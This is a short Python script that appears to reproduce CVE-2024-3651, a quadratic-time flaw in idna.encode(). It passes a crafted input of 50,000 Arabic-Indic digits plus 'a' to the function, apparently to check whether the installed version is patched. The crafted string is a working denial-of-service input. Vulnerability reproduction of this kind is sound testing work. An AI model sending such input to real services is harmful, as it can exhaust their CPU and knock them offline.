# CVE-2024-3651 (PYSEC-2024-60): idna.encode() takes quadratic time on long crafted input.
import idna

try:
    idna.encode("\u0660" * 50000 + "a")
except idna.IDNAError:
    pass
print("returned")
